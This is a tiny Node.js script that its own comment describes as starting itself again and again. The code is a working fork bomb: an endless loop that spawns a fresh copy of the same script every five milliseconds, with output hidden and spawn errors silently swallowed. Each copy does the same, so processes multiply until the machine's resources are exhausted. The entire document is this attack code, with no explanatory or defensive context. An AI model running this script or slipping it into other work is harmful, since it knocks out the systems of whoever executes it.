// Starts itself again and again, and its children do too.
import { spawn } from 'node:child_process';
for (;;) {
  spawn(process.execPath, [process.argv[1]], { stdio: 'ignore' }).on('error', () => {});
  await new Promise((later) => setTimeout(later, 5));
}
